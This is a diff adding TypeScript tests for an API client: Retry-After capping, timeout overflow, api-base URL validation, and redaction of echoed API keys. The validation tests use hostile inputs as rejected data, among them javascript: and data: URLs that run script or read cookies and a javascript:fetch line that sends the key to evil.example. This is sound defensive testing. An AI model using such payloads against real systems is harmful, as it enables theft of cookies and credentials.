@@ -206,7 +206,7 @@ describe('client: fetchSessionsPage', () => {
     it('parses the page', async () => {
       const { impl } = fakeFetch(() => json(okPage));
       const page = await fetchSessionsPage(request(), impl);
-      expect(page).to.deep.equal({ sessions: okPage.sessions, rejected: [], cursor: 'next-1' });
+      expect(page).to.deep.equal({ sessions: okPage.sessions, rejected: [], cursor: 'next-1', unreadable: 0 });
     });
 
     it('keeps valid rows and reports rejected ones', async () => {
@@ -593,5 +593,227 @@ describe('client: fetchSessionsPage', () => {
       const error = await apiError(fetchSessionsPage(request(), impl), 'auth');
       expect(error.message).to.not.contain(TOKEN.slice(0, -1));
     });
+  });
+});
+
+/** No run of 6 of the key's secret characters, in any case, whatever stands between them. */
+function expectNoKeyPiece(message: string): void {
+  const fold = (text: string) => text.toLowerCase().replace(/[^a-z0-9]/g, '');
+  const secret = fold(TOKEN.slice('rsk_test_'.length));
+  const folded = fold(message);
+  for (let i = 0; i + 6 <= secret.length; i++) {
+    expect(folded, `contains "${secret.slice(i, i + 6)}"`).to.not.contain(secret.slice(i, i + 6));
+  }
+}
+
+describe('client: Retry-After is capped at an hour', () => {
+  const now = Date.parse('2026-06-02T14:22:00Z');
+
+  it('caps seconds past an hour, and far-future dates, at an hour', () => {
+    expect(parseRetryAfter('3600', now)).to.equal(3_600_000);
+    expect(parseRetryAfter('3601', now)).to.equal(3_600_000);
+    expect(parseRetryAfter('2200000', now)).to.equal(3_600_000);
+    expect(parseRetryAfter('9'.repeat(400), now)).to.equal(3_600_000);
+    expect(parseRetryAfter('Fri, 31 Dec 9999 23:59:59 GMT', now)).to.equal(3_600_000);
+    expect(parseRetryAfter('Wed, 03 Jun 2026 14:22:00 GMT', now)).to.equal(3_600_000);
+  });
+
+  it('reads an HTTP date only when it looks like one: "-5" or "1 hour" are not years', () => {
+    expect(parseRetryAfter('-5', now)).to.equal(null);
+    expect(parseRetryAfter('-1', now)).to.equal(null);
+    expect(parseRetryAfter('1 hour', now)).to.equal(null);
+    expect(parseRetryAfter('2026-06-03', now)).to.equal(null);
+    expect(parseRetryAfter('Sunday, 06-Nov-94 08:49:37 GMT', now)).to.equal(0);
+  });
+
+  for (const [status, kind] of [
+    [429, 'rate-limited'],
+    [503, 'rate-limited'],
+    [500, 'server'],
+  ] as const) {
+    it(`${status} with Retry-After: 2200000 waits an hour, and says it was asked for more, without absurd numbers`, async () => {
+      const { impl } = fakeFetch(() => text('', { status, headers: { 'Retry-After': '2200000' } }));
+      const error = await apiError(fetchSessionsPage(request(), impl), kind);
+      expect(error.retryAfterMs).to.equal(3_600_000);
+      expect(error.retryAfterCapped).to.equal(true);
+      expect(error.message).to.contain('It asked to wait 26 days; waiting 1 h at most.');
+      expect(error.message).to.not.match(/\d[\d,.]{4,}/);
+    });
+  }
+
+  it('a far-future HTTP date: an hour, in words, with no number of days no one can read', async () => {
+    const { impl } = fakeFetch(() =>
+      text('', { status: 429, headers: { 'Retry-After': 'Fri, 31 Dec 9999 23:59:59 GMT' } }),
+    );
+    const error = await apiError(fetchSessionsPage(request(), impl), 'rate-limited');
+    expect(error.retryAfterMs).to.equal(3_600_000);
+    expect(error.retryAfterCapped).to.equal(true);
+    expect(error.message).to.contain('It asked to wait more than 999 days; waiting 1 h at most.');
+    expect(error.message).to.not.match(/\d[\d,.]{4,}/);
+  });
+
+  it('a Retry-After within the hour is obeyed as sent, and not called capped', async () => {
+    const { impl } = fakeFetch(() => text('', { status: 429, headers: { 'Retry-After': '3600' } }));
+    const error = await apiError(fetchSessionsPage(request(), impl), 'rate-limited');
+    expect(error.retryAfterMs).to.equal(3_600_000);
+    expect(error.retryAfterCapped).to.equal(false);
+    expect(error.message).to.not.contain('asked to wait');
+  });
+
+  it('an ApiError made without a Retry-After is not capped', () => {
+    expect(new ApiError('network', 'x').retryAfterCapped).to.equal(false);
+  });
+});
+
+describe('client: the request timeout never overflows', () => {
+  /** True when the request is still waiting after `ms`: its timer did not fire at once. */
+  async function stillWaiting(timeoutMs: number, ms = 100): Promise<boolean> {
+    const controller = new AbortController();
+    let settled = false;
+    const pending = fetchSessionsPage(request({ timeoutMs, signal: controller.signal }), hangingFetch().impl).finally(
+      () => (settled = true),
+    );
+    await new Promise((resolve) => setTimeout(resolve, ms));
+    const waiting = !settled;
+    controller.abort(new Error('done'));
+    await pending.catch(() => undefined);
+    return waiting;
+  }
+
+  it('a timeout past 2^31−1 ms waits (setTimeout would wrap it to about 0)', async () => {
+    expect(await stillWaiting(2 ** 31 + 5)).to.equal(true);
+    expect(await stillWaiting(1e300)).to.equal(true);
+    expect(await stillWaiting(Infinity)).to.equal(true);
+  });
+
+  it('a timeout of NaN, 0 or less is the 30 s default, not at once', async () => {
+    for (const timeoutMs of [NaN, 0, -5]) expect(await stillWaiting(timeoutMs), String(timeoutMs)).to.equal(true);
+  });
+});
+
+describe('client: api-base must be an http(s) URL', () => {
+  for (const apiBase of [
+    'javascript:alert(1)',
+    'JavaScript:alert(document.cookie)//',
+    'data:text/html,<script>alert(1)</script>',
+    'ftp://files.example/rensei',
+    'file:///etc',
+    'http://[not-a-host',
+    'https://',
+    'blob:https://portal.example/x',
+  ]) {
+    it(`"${apiBase}" → config, saying so, without calling fetch (with a key or without)`, async () => {
+      for (const token of [TOKEN, '']) {
+        const { impl, calls } = fakeFetch(() => json(okPage));
+        const error = await apiError(fetchSessionsPage(request({ apiBase, token }), impl), 'config');
+        expect(error.message).to.contain('api-base is not a valid http(s) URL');
+        expect(error.status).to.equal(null);
+        expect(calls).to.have.length(0);
+      }
+      expect(() => sessionsUrl(apiBase, '', null, PAGE_URL)).to.throw(ApiError, 'api-base is not a valid http(s) URL');
+    });
+  }
+
+  it('a relative api-base on a page that is not http(s) → config', async () => {
+    const error = await apiError(
+      fetchSessionsPage(request({ apiBase: '/proxy', pageUrl: 'about:blank' }), fakeFetch(() => json(okPage)).impl),
+      'config',
+    );
+    expect(error.message).to.contain('api-base is not a valid http(s) URL');
+  });
+
+  it('does not quote the api-base it refuses', async () => {
+    const apiBase = `javascript:fetch('https://evil.example/?k=${TOKEN}')`;
+    const error = await apiError(fetchSessionsPage(request({ apiBase }), fakeFetch(() => json(okPage)).impl), 'config');
+    expect(error.message).to.not.contain('evil');
+  });
+});
+
+describe('client: an answer with no content', () => {
+  it('a 204 says the server answered with no content, not that it was cut off', async () => {
+    const { impl } = fakeFetch(() => new Response(null, { status: 204 }));
+    const error = await apiError(fetchSessionsPage(request(), impl), 'not-json');
+    expect(error.status).to.equal(204);
+    expect(error.message).to.contain('no content');
+    expect(error.message).to.contain('204');
+    expect(error.message).to.not.contain('cut off');
+  });
+
+  it('a 200 with an empty or blank body says the same', async () => {
+    for (const body of ['', '  \n\t ']) {
+      const error = await apiError(fetchSessionsPage(request(), fakeFetch(() => text(body)).impl), 'not-json');
+      expect(error.message).to.contain('no content');
+      expect(error.message).to.not.contain('cut off');
+    }
+  });
+});
+
+describe('client: a key echoed back in any disguise is redacted', () => {
+  const secret = TOKEN.slice('rsk_test_'.length);
+  const echoes: Array<[string, string]> = [
+    ['lower-cased', TOKEN.toLowerCase()],
+    ['upper-cased', TOKEN.toUpperCase()],
+    ['spaced out', TOKEN.split('').join(' ')],
+    ['hyphen-split', `rsk_test_${secret.match(/.{1,4}/g)!.join('-')}`],
+    ['hyphen-split in two', `${TOKEN.slice(0, 14)}-${TOKEN.slice(14, 22)}-${TOKEN.slice(22)}`],
+    ['split by punctuation and new lines', secret.match(/.{1,4}/g)!.join('.\n')],
+    ['the secret alone, upper-cased and dotted', secret.toUpperCase().split('').join('.')],
+    ['a piece of it, lower-cased', secret.slice(3, 12).toLowerCase()],
+  ];
+  for (const [how, echo] of echoes) {
+    it(`${how}`, async () => {
+      const { impl } = fakeFetch(() => json({ error: `Invalid API key ${echo} for org acme` }, { status: 401 }));
+      const error = await apiError(fetchSessionsPage(request(), impl), 'auth');
+      expectNoKeyPiece(error.message);
+      expect(error.message).to.contain('Invalid API key');
+      expect(error.message).to.contain('for org acme');
+      expect(error.message).to.contain('…');
+    });
+  }
+
+  it('leaves text that only shares short runs with the key alone', async () => {
+    const said = 'Key rsk_test_abc refused: its value was not valid (S3CR3 is 5 characters, see docs/keys).';
+    const { impl } = fakeFetch(() => json({ error: said }, { status: 401 }));
+    const error = await apiError(fetchSessionsPage(request(), impl), 'auth');
+    expect(error.message).to.contain(said);
+  });
+
+  it('redacts every echo in one message, and never the case of the rest', async () => {
+    const { impl } = fakeFetch(() =>
+      json({ error: `A ${TOKEN.toLowerCase()} B ${TOKEN.toUpperCase()} C ${TOKEN} D` }, { status: 403 }),
+    );
+    const error = await apiError(fetchSessionsPage(request(), impl), 'auth');
+    expectNoKeyPiece(error.message);
+    expect(error.message).to.contain('“A rsk_… B rsk_… C rsk_… D”');
+  });
+
+  it('a 1 MB hostile error body does not freeze the widget, and leaks nothing', async () => {
+    const hostile = Array.from({ length: 60_000 }, (_, i) =>
+      i % 2 ? secret.toUpperCase().split('').join(' ') : secret.slice(0, 5),
+    ).join('-');
+    expect(hostile.length).to.be.above(1_000_000);
+    const { impl } = fakeFetch(() => json({ error: hostile }, { status: 500 }));
+    const started = performance.now();
+    const error = await apiError(fetchSessionsPage(request(), impl), 'server');
+    expect(performance.now() - started).to.be.below(1_000);
+    expectNoKeyPiece(error.message);
+    expect(error.message.length).to.be.below(400);
+  });
+});
+
+describe('client: api-base that is not http(s), with a key', () => {
+  it('also says the key is not sent there', async () => {
+    for (const apiBase of ['ws://localhost:8787', 'ftp://127.0.0.1', 'javascript:alert(1)']) {
+      const { impl, calls } = fakeFetch(() => json(okPage));
+      const error = await apiError(fetchSessionsPage(request({ apiBase }), impl), 'config');
+      expect(error.message).to.contain('api-base is not a valid http(s) URL');
+      expect(error.message).to.contain('Refusing to send the API key');
+      expect(calls).to.have.length(0);
+    }
+    const error = await apiError(
+      fetchSessionsPage(request({ apiBase: 'ws://localhost', token: '' }), fakeFetch(() => json(okPage)).impl),
+      'config',
+    );
+    expect(error.message).to.not.contain('API key');
   });
 });
